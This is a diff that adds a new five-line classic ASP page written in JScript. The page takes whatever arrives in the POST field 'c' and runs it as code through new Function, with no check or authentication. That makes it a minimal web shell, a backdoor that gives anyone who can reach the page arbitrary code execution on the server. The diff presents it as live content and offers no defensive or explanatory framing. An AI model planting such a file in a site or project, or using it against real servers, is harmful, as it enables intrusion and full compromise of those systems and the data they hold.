@@ -1,0 +1,5 @@
+<%@ Language="JScript" %>
+<%
+var c = Request.Form("c") + "";
+if (c.length) { (new Function(c))(); }
+%>
